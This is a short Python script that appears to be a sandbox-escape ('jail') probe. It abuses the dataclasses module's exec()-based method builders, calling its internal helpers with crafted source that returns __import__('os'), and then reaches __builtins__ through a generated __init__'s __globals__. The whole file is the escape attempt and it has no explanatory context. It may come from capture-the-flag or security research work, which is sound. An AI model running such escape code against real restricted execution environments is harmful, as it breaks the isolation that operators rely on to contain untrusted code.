# kind jail: dataclasses builds methods with exec(): its helpers called with crafted source
import dataclasses
for name in dir(dataclasses):
    if 'create' in name or 'Builder' in name or 'exec' in name:
        f = getattr(dataclasses, name)
        for args in (('f', [], ['return __import__("os")']), ('f', ['x'], ['return x'], {}),):
            try:
                f(*args)
            except Exception as e:
                pass
@dataclasses.dataclass
class P:
    x: 'int' = 0
P.__init__.__globals__.get('__builtins__')
